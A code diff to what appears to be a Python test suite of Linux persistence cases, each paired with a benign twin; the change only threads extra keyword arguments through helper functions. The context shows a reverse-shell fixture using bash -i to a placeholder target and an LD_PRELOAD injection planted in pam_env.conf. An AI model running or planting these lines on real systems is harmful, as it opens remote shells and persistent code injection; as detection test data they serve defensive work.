@@ -27,8 +27,8 @@ _PANIX: Final = f"(nohup bash -i > {TO} 0<&1 2>&1 &)\n"
 _HOME: Final = "/home/anna"
 
 
-def _twin(slug: str, what: str, path: str, text: str) -> Twin:
-    return Twin(slug, what, path, add(path, text))
+def _twin(slug: str, what: str, path: str, text: str, **more: str) -> Twin:
+    return Twin(slug, what, path, add(path, text), **more)
 
 
 def _script(
@@ -46,7 +46,9 @@ def _script(
     return Case(slug, _SCRIPTS, _ID, what, path, act or add(path, text), twin, panix)
 
 
-def _variable(slug: str, technique: str, what: str, path: str, text: str, good: str) -> Case:
+def _variable(
+    slug: str, technique: str, what: str, path: str, text: str, good: str, **twin: str
+) -> Case:
     return Case(
         slug,
         _ENV,
@@ -54,7 +56,7 @@ def _variable(slug: str, technique: str, what: str, path: str, text: str, good: 
         what,
         path,
         add(path, text),
-        _twin(f"{slug}-own", "a setting of one's own", path, good),
+        _twin(f"{slug}-own", "a setting of one's own", path, good, **twin),
     )
 
 
@@ -163,6 +165,7 @@ CASES: Final = (
         "/etc/security/pam_env.conf",
         "LD_PRELOAD DEFAULT=/var/tmp/.cache/l.so\n",
         "EDITOR DEFAULT=nano\n",
+        table="file",
     ),
     _variable(
         "pam-environment",
